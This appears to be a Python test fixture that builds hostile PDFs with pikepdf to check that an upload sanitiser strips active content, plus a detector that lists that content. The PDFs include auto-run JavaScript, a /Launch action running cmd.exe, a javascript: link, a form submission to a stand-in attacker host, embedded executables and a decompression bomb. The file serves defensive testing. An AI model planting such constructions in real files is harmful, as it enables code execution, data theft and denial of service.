"""Hostile PDFs for the upload tests, made in memory with pikepdf: scripts run on opening,
on a page or from a link, /Launch, /SubmitForm, javascript: links, XFA forms, files
inside (/EmbeddedFiles, a file attachment annotation), a password, a stream that unpacks
to hundreds of megabytes; and a harmless one that opens at page 1 with a web link.

`pdf_activity` says what a PDF carries, so a test can show the input has it before
showing the stored copy has not."""
import functools
import io

import pikepdf

from tests.files import EXECUTABLE, pdf_bytes

SCRIPT = "app.alert('hostile')"  # every PDF script here; never to be found in what is stored


def _script(kind: str = "/JavaScript") -> pikepdf.Dictionary:
    return pikepdf.Dictionary(S=pikepdf.Name(kind), JS=pikepdf.String(SCRIPT))


def _edited_pdf(edit, **save) -> bytes:
    with pikepdf.open(io.BytesIO(pdf_bytes("hostile"))) as pdf:
        # Each maker's file differs from the others' once disarmed: not a copy already attached.
        pdf.docinfo["/Title"] = edit.__qualname__.split(".")[0]
        edit(pdf)
        out = io.BytesIO()
        pdf.save(out, **save)
        return out.getvalue()


def _link(pdf, action: pikepdf.Dictionary) -> None:
    """A link over the page, written directly in the page's /Annots (not an object of its own)."""
    pdf.pages[0].obj["/Annots"] = pikepdf.Array([pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 200, 200], A=action)])


def pdf_open_action_script() -> bytes:
    return _edited_pdf(lambda pdf: pdf.Root.__setattr__("OpenAction", _script()))


def pdf_document_scripts() -> bytes:
    """A script in the document's /Names /JavaScript tree, its code in a compressed stream."""
    def edit(pdf):
        action = pdf.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.JavaScript,
                                                      JS=pdf.make_stream(SCRIPT.encode())))
        pdf.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=[pikepdf.String("init"), action]))
    return _edited_pdf(edit, compress_streams=True)


def pdf_page_additional_actions() -> bytes:
    def edit(pdf):
        pdf.pages[0].obj["/AA"] = pikepdf.Dictionary(O=_script())
        pdf.Root.AA = pikepdf.Dictionary(WC=_script())
    return _edited_pdf(edit)


def pdf_launch() -> bytes:
    return _edited_pdf(lambda pdf: _link(pdf, pikepdf.Dictionary(
        S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe"),
        Win=pikepdf.Dictionary(F=pikepdf.String("cmd.exe"), P=pikepdf.String("/c calc")))))


def pdf_javascript_uri() -> bytes:
    return _edited_pdf(lambda pdf: _link(pdf, pikepdf.Dictionary(S=pikepdf.Name.URI,
                                                                  URI=pikepdf.String("javascript:" + SCRIPT))))


def pdf_submit_form() -> bytes:
    return _edited_pdf(lambda pdf: _link(pdf, pikepdf.Dictionary(
        S=pikepdf.Name.SubmitForm, F=pikepdf.String("http://attacker.invalid/collect"))))


def pdf_script_after_goto() -> bytes:
    """A harmless "go to page 1" whose /Next runs a script."""
    def edit(pdf):
        pdf.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.GoTo, D=[pdf.pages[0].obj, pikepdf.Name.Fit],
                                                 Next=_script())
    return _edited_pdf(edit)


def pdf_xfa() -> bytes:
    def edit(pdf):
        xfa = pdf.make_stream(b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><script>'
                              + SCRIPT.encode() + b"</script></template></xdp:xdp>")
        pdf.Root.AcroForm = pikepdf.Dictionary(Fields=[], XFA=xfa)
        pdf.Root.NeedsRendering = True
    return _edited_pdf(edit)


def pdf_embedded_file() -> bytes:
    def edit(pdf):
        pdf.attachments["setup.exe"] = pikepdf.AttachedFileSpec(pdf, EXECUTABLE, mime_type="application/octet-stream")
    return _edited_pdf(edit)


def pdf_file_annotation() -> bytes:
    """A file attached to the page (a paper-clip icon), not listed in /EmbeddedFiles."""
    def edit(pdf):
        spec = pikepdf.AttachedFileSpec(pdf, EXECUTABLE, filename="invoice.exe")
        pdf.pages[0].obj["/Annots"] = pikepdf.Array([pdf.make_indirect(pikepdf.Dictionary(
            Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.FileAttachment, Rect=[0, 0, 20, 20],
            FS=spec.obj))])
    return _edited_pdf(edit)


def pdf_with_password() -> bytes:
    return _edited_pdf(lambda pdf: None, encryption=pikepdf.Encryption(user="secret", owner="secret"))


def pdf_harmless_navigation() -> bytes:
    """Opens at page 1 fitted to the window, with a web link: nothing to remove."""
    def edit(pdf):
        pdf.Root.OpenAction = pikepdf.Array([pdf.pages[0].obj, pikepdf.Name.Fit])
        _link(pdf, pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://www.unscear.org/")))
    return _edited_pdf(edit)


def _dictionaries(pdf):
    """Every dictionary of the file, the direct ones nested in objects too."""
    for obj in pdf.objects:
        stack = [obj]
        while stack:
            item = stack.pop()
            if isinstance(item, (pikepdf.Dictionary, pikepdf.Stream)):
                yield item
                children = [item[key] for key in item.keys()]
            elif isinstance(item, pikepdf.Array):
                children = list(item)
            else:
                continue
            stack.extend(c for c in children if isinstance(c, (pikepdf.Dictionary, pikepdf.Array)) and not c.is_indirect)


def pdf_activity(data: bytes) -> set[str]:
    """What in a PDF runs, reaches out or carries files: {"/JS", "/AA", "/Launch", ...}."""
    found = set()
    with pikepdf.open(io.BytesIO(data)) as pdf:
        names = pdf.Root.get("/Names")
        for key in ("/JavaScript", "/EmbeddedFiles"):
            if names is not None and key in names:
                found.add(key)
        if "/AcroForm" in pdf.Root and "/XFA" in pdf.Root.AcroForm:
            found.add("/XFA")
        for item in _dictionaries(pdf):
            found |= {key for key in ("/JS", "/AA", "/EF") if key in item}
            kind = str(item.get("/S", ""))
            if kind in ("/JavaScript", "/Launch", "/SubmitForm", "/ImportData"):
                found.add(kind)
            if str(item.get("/URI", "")).lower().startswith("javascript:"):
                found.add("javascript:")
    return found


@functools.cache
def pdf_bomb_with_script(megabytes: int = 300) -> tuple[bytes, bytes]:
    """(the PDF, its packed stream): a script to remove, and a page content stream that
    inflates to `megabytes` of blanks (packed, a few hundred kilobytes)."""
    import zlib

    packer, chunk = zlib.compressobj(9), b" " * (1 << 20)
    # Hex around Flate: a writer that re-packs streams in a filter of its choice must
    # inflate this one first (qpdf leaves a stream packed by Flate alone as it is).
    packed = (b"".join(packer.compress(chunk) for _ in range(megabytes)) + packer.flush()).hex().encode() + b">"

    def edit(pdf):
        pdf.Root.OpenAction = _script()
        stream = pikepdf.Stream(pdf, packed)
        stream.Filter = pikepdf.Array([pikepdf.Name.ASCIIHexDecode, pikepdf.Name.FlateDecode])
        pdf.pages[0].obj["/Contents"] = pdf.make_indirect(stream)
    return _edited_pdf(edit, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none), packed
